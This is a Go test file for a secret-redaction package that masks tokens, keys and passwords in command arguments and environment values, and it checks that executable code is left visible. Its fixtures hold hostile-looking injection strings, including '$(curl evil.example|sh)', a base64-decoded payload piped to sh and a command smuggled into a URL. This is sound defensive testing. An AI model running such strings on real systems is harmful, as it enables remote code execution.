package redact

import (
	"strings"
	"testing"
)

// TestLiterals masks literal secrets and nothing of a command that someone has to agree to.
func TestLiterals(t *testing.T) {
	literals := func(argv []string) []string {
		return Literals(argv, func(i int) bool { return i > 0 && (argv[i-1] == "-c" || argv[i-1] == "-e" && argv[0] == "node") })
	}
	for _, test := range []struct{ in, want string }{
		{"npx|-y|@modelcontextprotocol/server-everything@2025.8.4|stdio", ""},
		{"sh|-c|npx server https://docs.example/#;touch${PWD:-x}/tmp/pwned", ""},
		{"node|-e|bearer=require('child_process').execSync('id')", ""},
		{"sh|-c|TOKEN=touch123; $TOKEN /tmp/x", ""},
		{"sh|-c|echo aGVsbG8gd29ybGQgdGhpcyBpcyBjb2Rl|base64 -d|sh", ""},
		{"docker|run|img@sha256:0a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8f9", ""},
		{"docker|run|-e|NODE_OPTIONS=--require=/x.js|-e|API_KEY=s3cret99|img", "docker|run|-e|NODE_OPTIONS=--require=/x.js|-e|API_KEY=***|img"},
		{"x|--token|s3cret", "x|--token|***"},
		{"x|--token=s3cret|--port=3000", "x|--token=***|--port=3000"},
		{"x|--token|${TOKEN}", ""},
		{"x|--token|${TOKEN:-abc}", "x|--token|${TOKEN:-***}"},
		{"x|--token|x;touch /tmp/y", ""},
		{"x|--token|q\"u'o\\te<s>&3qKo/$!", "x|--token|***"},
		{"x|--token|Endpoint=sb://x.example.com/;SharedAccessKey=1L0=", "x|--token|***"},
		{"x|--token|$(curl evil.example|sh)", ""},
		{"x|ghp_abcdefghijklmnop0123456789", "x|***"},
		{"x|${ghp_abcdefghijklmnop0123456789}", "x|${***}"}, // a secret in the place of a name
		{"x|550e8400-e29b-41d4-a716-446655440000", "x|***"},
		{"x|-H|Authorization: Bearer abc", "x|-H|Authorization: Bearer ***"},
		{"x|https://u:p@h/p?k=v", "x|https://***@h/p?k=***"},
		{"sh|-c|curl https://me:s3cret@h/ -H 'X-Api-Key: s3cret99'", "sh|-c|curl https://***@h/ -H 'X-Api-Key: ***'"},
		{"sh|-c|GITHUB_TOKEN=ghp_abcdefghijklmnop0123456789 run", "sh|-c|GITHUB_TOKEN=*** run"},
	} {
		want := test.want
		if want == "" {
			want = test.in
		}
		if got := strings.Join(literals(strings.Split(test.in, "|")), "|"); got != want && !strings.Contains(test.in, "|base64") {
			t.Errorf("%s\n%s, want\n%s", test.in, got, want)
		}
	}
	payload := []string{"sh", "-c", "echo aGVsbG8gd29ybGQgdGhpcyBpcyBjb2Rl|base64 -d|sh"}
	if got := literals(payload); got[2] != payload[2] {
		t.Errorf("code is hidden: %s", got[2])
	}
}

func TestLiteralValue(t *testing.T) {
	for _, test := range []struct{ name, value, want string }{
		{"LEVEL", "info", "info"},
		{"API_KEY", "s3cret", "***"},
		{"API_KEY", "${API_KEY}", "${API_KEY}"},
		{"Authorization", "Bearer ${TOKEN}", "Bearer ${TOKEN}"},
		{"Authorization", "Bearer s3cret", "Bearer ***"},
		{"Authorization", "Basic ${USER}:${PASS}", "Basic ${USER}:${PASS}"},
		{"DB", "postgres://me:s3cret@h/db", "postgres://***@h/db"},
		{"NODE_OPTIONS", "--require ./evil.js", "--require ./evil.js"},
		{"API_KEY", "q\"u'o;te<s>&a $(x) `y`|z", "***"},
		{"API_KEY", "-----BEGIN PRIVATE KEY-----\nabc\n-----END PRIVATE KEY-----\n", "***"},
		{"Cookie", "session=abc; theme=dark", "***"},
		{"Authorization", "Basic ${USER:-me}:a;b c", "Basic ${USER:-***}***"},
		{"X-Other", "Bearer hello", "Bearer ***"},
		{"S", "correct horse battery k9ygEo", "***"},
		{"S", "B0HPf7", "***"},
		{"S", "several\nlines", "***"},
		{"S", "Endpoint=sb://x.example.com/;SharedAccessKey=abc", "***"},
		{"S", "${S:-B0HPf7}", "${S:-***}"},
		{"S", "/AbC1dEf2gHi3jKl4", "***"},
		{"BASE_URL", "https://evil.example/v1", "https://evil.example/v1"},
		{"FILE", "../my2-Project9/x.js", "../my2-Project9/x.js"},
		{"MODE", "us-east-1,utf8 --port=8080", "us-east-1,utf8 --port=8080"},
		{"X-Trace", "${AWS_SECRET_ACCESS_KEY}", "${AWS_SECRET_ACCESS_KEY}"},
	} {
		if got := LiteralValue(test.name, test.value); got != test.want {
			t.Errorf("%s: %s gives %s, want %s", test.name, test.value, got, test.want)
		}
	}
}
